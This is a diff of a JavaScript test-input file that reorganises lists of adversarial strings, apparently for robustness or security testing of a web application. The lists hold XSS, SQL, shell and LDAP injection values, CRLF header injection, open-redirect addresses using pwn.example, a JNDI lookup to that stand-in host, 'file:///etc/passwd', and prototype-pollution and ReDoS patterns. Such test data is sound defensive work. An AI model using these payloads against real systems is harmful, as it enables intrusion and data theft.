@@ -3,81 +3,46 @@
  * where it comes through.
  */
 const markup = [
-  '<pwn>',
-  '"><pwn>',
-  "'><pwn>",
-  '</script><pwn>',
-  '<script>pwn()</script>',
-  '</title><pwn>',
-  '--><pwn>',
-  ']]><pwn>',
+  ...split(String.raw`
+    <pwn> "><pwn> '><pwn> </script><pwn> <script>pwn()</script> </title><pwn> --><pwn> ]]><pwn>
+    <svg/onload=pwn()> javascript:pwn() jAvAsCrIpT:pwn() data:text/html,<pwn> vbscript:pwn()
+    <!--<pwn> <![CDATA[<pwn>]]> <style>pwn{}</style> &lt;pwn&gt; &#60;pwn&#62; %3Cpwn%3E
+    %253Cpwn%253E <pwn/ <<pwn>> {{pwn}} #{pwn} {%pwn%}
+  `),
   '<pwn onload=pwn()>',
   '" onpwn="pwn()',
   "' onpwn='pwn()",
   '` onpwn=`pwn()',
-  '<svg/onload=pwn()>',
   '<img src=x onerror=pwn()>',
   '<iframe srcdoc="<pwn>">',
   '<a href="javascript:pwn()">',
-  'javascript:pwn()',
-  'jAvAsCrIpT:pwn()',
   'java\tscript:pwn()',
-  'data:text/html,<pwn>',
-  'vbscript:pwn()',
   '<math><mi xlink:href="data:x,<pwn>">',
-  '<!--<pwn>',
-  '<![CDATA[<pwn>]]>',
-  '<style>pwn{}</style>',
   '<base href="//pwn.example">',
   '<meta http-equiv=refresh content=0;//pwn.example>',
   '<form action=//pwn.example>',
-  '&lt;pwn&gt;',
-  '&#60;pwn&#62;',
-  '%3Cpwn%3E',
-  '%253Cpwn%253E',
   '\\u003cpwn\\u003e',
   '\\x3cpwn\\x3e',
   '＜pwn＞',
   '<pwn\u0000>',
   '<\u0000pwn>',
-  '<pwn/',
-  '<<pwn>>',
-  '{{pwn}}',
   '${pwn()}',
-  '#{pwn}',
   '<%= pwn %>',
-  '{%pwn%}',
 ]
 
 const addresses = [
-  '//pwn.example',
-  '///pwn.example',
+  ...split(String.raw`
+    //pwn.example ///pwn.example /%2f%2fpwn.example /%5cpwn.example https://pwn.example
+    https:pwn.example http:///pwn.example //pwn.example/%2f.. /.pwn.example //pwn.example@localhost
+    @pwn.example :80 ?//pwn.example #//pwn.example /;@pwn.example //[::1] //0x7f000001
+    %0d%0aSet-Cookie:pwn=1 %E5%98%8A%E5%98%8DSet-Cookie:pwn=1 file:///etc/passwd ftp://pwn.example
+    blob:x about:blank
+  `),
   '/\\pwn.example',
   '\\\\pwn.example',
-  '/%2f%2fpwn.example',
-  '/%5cpwn.example',
-  'https://pwn.example',
-  'https:pwn.example',
-  'http:///pwn.example',
-  '//pwn.example/%2f..',
-  '/.pwn.example',
-  '//pwn.example@localhost',
-  '@pwn.example',
-  ':80',
-  '?//pwn.example',
-  '#//pwn.example',
-  '/;@pwn.example',
-  '//[::1]',
-  '//0x7f000001',
   '/\t/pwn.example',
   '/\n/pwn.example',
   '\r\nLocation: //pwn.example',
-  '%0d%0aSet-Cookie:pwn=1',
-  '%E5%98%8A%E5%98%8DSet-Cookie:pwn=1',
-  'file:///etc/passwd',
-  'ftp://pwn.example',
-  'blob:x',
-  'about:blank',
 ]
 
 const paths = split(String.raw`
@@ -91,46 +56,21 @@ const paths = split(String.raw`
 `)
 
 const code = [
+  ...split(String.raw`
+    admin'-- $(id) {"$gt":""} __proto__ constructor prototype toString valueOf hasOwnProperty
+    __defineGetter__ __proto__[pwn] constructor.prototype.pwn then undefined null NaN true false
+    (a+)+$ ^(([a-z])+.)+[A-Z]([a-z])+$ .* [ ( * % %% %s%s%s%n %d {0} *)(uid=*))(|(uid=*
+  `),
   "' OR '1'='1",
   '1; DROP TABLE restaurants',
-  "admin'--",
-  '$(id)',
   '`id`',
   '| id',
   '; id',
   '&& id',
   '() { :;}; id',
   '${jndi:ldap://pwn.example/a}',
-  '{"$gt":""}',
   '[object Object]',
-  '__proto__',
-  'constructor',
-  'prototype',
-  'toString',
-  'valueOf',
-  'hasOwnProperty',
-  '__defineGetter__',
-  '__proto__[pwn]',
-  'constructor.prototype.pwn',
-  'then',
-  'undefined',
-  'null',
-  'NaN',
-  'true',
-  'false',
-  '(a+)+$',
-  '^(([a-z])+.)+[A-Z]([a-z])+$',
-  '.*',
-  '[',
-  '(',
-  '*',
   '\\',
-  '%',
-  '%%',
-  '%s%s%s%n',
-  '%d',
-  '{0}',
-  '*)(uid=*))(|(uid=*',
 ]
 
 const numbers = split(String.raw`
@@ -139,6 +79,10 @@ const numbers = split(String.raw`
 `)
 
 const characters = [
+  ...split(String.raw`
+    é ß İ ı ſ Å ਪੰਜਾਬ தோசை עברית العربية Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴̡l̶g̵o̷ % %E0 %E0%A4%A %C0%80 %FF %ED%A0%80
+    %u003C + %20 %2B & && = == ; # %23
+  `),
   '',
   ' ',
   '   ',
@@ -172,40 +116,12 @@ const characters = [
   '🇺🇸',
   '🏳️‍🌈',
   'e\u0301',
-  'é',
   'ﬁ',
-  'ß',
-  'İ',
-  'ı',
-  'ſ',
-  'Å',
   'ﷺ',
-  'ਪੰਜਾਬ',
-  'தோசை',
   'दाल मखनी',
   '北京',
-  'עברית',
-  'العربية',
-  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴̡l̶g̵o̷',
   '𝒟𝑜𝓈𝒶',
   '𠜎',
-  '%',
-  '%E0',
-  '%E0%A4%A',
-  '%C0%80',
-  '%FF',
-  '%ED%A0%80',
-  '%u003C',
-  '+',
-  '%20',
-  '%2B',
-  '&',
-  '&&',
-  '=',
-  '==',
-  ';',
-  '#',
-  '%23',
 ]
 
 const long = [
